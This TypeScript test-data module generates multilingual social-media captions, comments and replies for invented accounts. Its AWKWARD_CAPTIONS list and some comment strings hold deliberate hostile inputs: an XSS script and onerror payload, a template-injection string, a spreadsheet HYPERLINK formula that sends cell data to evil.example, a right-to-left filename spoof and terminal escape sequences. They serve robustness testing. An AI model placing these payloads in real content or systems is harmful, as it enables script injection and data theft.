// What accounts write under their posts and what their public answers, hazards for careless readers included.

import type { Account, Language } from "./cast.ts";
import { toChoice, toHash, toUnit } from "./random.ts";

const BAKERY_DE = [
  "Frisch aus dem Ofen: unser Roggenmischbrot mit langer Teigruhe. 🥖",
  "Sonntag ist Franzbrötchentag. Wer kommt vorbei? #franzbrötchen #hamburg",
  "Neue Röstung aus Äthiopien: Pfirsich, Bergamotte, viel Ruhe.",
  "Wir suchen Verstärkung in der Backstube. Schreib uns! 👩‍🍳",
  "So sieht 4 Uhr morgens bei uns aus.",
  "Zimtschnecken sind wieder da.\n\nNur solange der Vorrat reicht.\n#kaffeenord #zimt",
  "Hafermilch ohne Aufpreis. Immer. ☕️",
];
const OUTDOOR_EN = [
  "Three days, two passes, one stove. Photo by @m.lund",
  "Rain on the fjord. The Storm shell keeps its word.",
  "Repair beats replace: bring your old jacket to any store. #wornwear",
  "Golden hour at 1,900 m. Worth every step. 🏔️",
  "Which trail is next on your list?",
  "New colours for winter. Link in bio.",
  "How to pack for a night outside in five moves.",
];
const CULTURE_DE = [
  "Letzte Woche der Ausstellung „Licht und Wasser“. Bis Sonntag, 18 Uhr.",
  "Hinter den Kulissen: So hängt man ein Bild von drei Metern Breite.",
  "Heute Abend freier Eintritt ab 17 Uhr. Kommt vorbei!",
  "Ein Blick aus dem Fenster, der nie langweilig wird.",
  "Blaue Stunde am Wasser. 🌊",
  "Kinderführung am Samstag: noch 6 Plätze frei.",
];
const CULTURE_EN = [
  "Curtain up at 8. A few seats left for Friday.",
  "Rehearsal notes: act two finally breathes.",
  "Meet the people behind the light desk. 💡",
  "One stage, four actors, forty-one characters.",
];
const BY_LANGUAGE: Readonly<Partial<Record<Language, readonly string[]>>> = {
  fr: [
    "Trois jours de marche, zéro réseau, beaucoup d’air. 🏕️",
    "« Réparer plutôt que remplacer » : notre atelier est ouvert à Lyon.",
    "L’hiver arrive. Et vous, prêts à partir ?",
    "Lever de soleil au col : 5 h 42, −4 °C.",
  ],
  ja: [
    "秋の北アルプスへ。新しいレインジャケットと一緒に。",
    "朝5時、涸沢の光。#登山 #山好きな人と繋がりたい",
    "修理サービスを始めました。長く使うために。🧵",
    "週末のキャンプ、何を持っていきますか？⛺️",
  ],
  ar: [
    "شتاء جديد ومغامرة جديدة في جبال الأطلس 🏔️ #مغامرات",
    "كيف تختار حقيبة الظهر المناسبة؟ التفاصيل في الرابط.",
    "חורף בגליל: מסלול של שעתיים עם נוף לים. #טיולים",
    "خصم 20٪ على سترات Fjellvik حتى نهاية الأسبوع",
    "הצטרפו אלינו לטיול לילה במדבר, יום חמישי ב־18:00",
  ],
};

/** Captions that have broken exports, pages and terminals before. */
export const AWKWARD_CAPTIONS: readonly string[] = [
  '<script>alert(1)</script><img src=x onerror="alert(2)"> & "quotes"',
  "{{constructor.constructor('return process')()}} {{#each this}}{{/each}} #{1+1}",
  '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
  "Family day 👩‍👩‍👧‍👦👨🏽‍🦱🏳️‍🌈 — everyone welcome 👋🏿",
  "आज शाम सात बजे नया नाटक। मिलते हैं! 🎭 #हिन्दी",
  "คืนนี้พบกันที่โรงละคร เวลาสองทุ่มตรง 🎟️",
  "Press release \u202Egnp.exe\u202C and a zero\u200Bwidth space",
  "Control \u0007characters\u001b[31m here\u0000 and a tab\tend",
  `${"A very long story about one evening, told without taking a breath. ".repeat(33)}`.slice(0, 2200),
  "+49 40 123456, @mention, -1, '=1+1",
];

/** The caption of a post, or undefined when it has none. */
export function toCaption(account: Account, day: number, slot: number): string | undefined {
  const { seed, index } = account;
  const nth = day * 5 + slot;
  if (account.awkwardCaptions && nth % 2 === 0)
    return AWKWARD_CAPTIONS[toHash(seed, "awkward", index, nth) % AWKWARD_CAPTIONS.length];
  if (toUnit(seed, "captionless", index, nth) < 0.06) return undefined;
  return toChoice(listCaptions(account), seed, "caption", index, nth);
}

function listCaptions({ theme, language }: Account): readonly string[] {
  const own = BY_LANGUAGE[language];
  if (own !== undefined) return own;
  if (theme === "bakery") return BAKERY_DE;
  if (theme === "outdoor") return OUTDOOR_EN;
  return language === "de" ? CULTURE_DE : CULTURE_EN;
}

const COMMENT_TEXTS = [
  "This is great!",
  "When do you open?",
  "Wie lange noch?",
  "😍😍😍",
  "Love this place",
  "@a.friend das müssen wir probieren",
  "Is this available in Norway?",
  "The service last Saturday was really slow, sorry.",
  "すてきですね",
  "جميل جدا",
  "Check my page for free followers!! https://spam.example/",
  "👏",
  "Gibt es das auch glutenfrei?",
  "First!",
  "\u001b[2J\u001b[1;31mhello\u0007 terminal",
  "<b>bold</b> {{name}} =1+1",
] as const;

const REPLY_TEXTS = [
  "Thank you!",
  "Danke dir 🙏",
  "We open at 8 on weekdays.",
  "Sorry to hear that, we sent you a message.",
] as const;

export function toCommentText(...parts: readonly (string | number)[]): string {
  return toChoice(COMMENT_TEXTS, "comment", ...parts);
}

export function toReplyText(...parts: readonly (string | number)[]): string {
  return toChoice(REPLY_TEXTS, "reply", ...parts);
}

/** An invented member of the public. */
export function toCustomer(...parts: readonly (string | number)[]): { readonly id: string; readonly username: string } {
  const nth = toHash("customer", ...parts) % 900;
  const word = toChoice(["some", "another", "quiet", "happy", "early", "sunny", "north", "little"], "word", nth);
  const noun = toChoice(["customer", "hiker", "guest", "reader", "baker", "traveller"], "noun", nth);
  return { id: `61${String(nth + 1).padStart(14, "0")}`, username: `${word}.${noun}${nth}` };
}
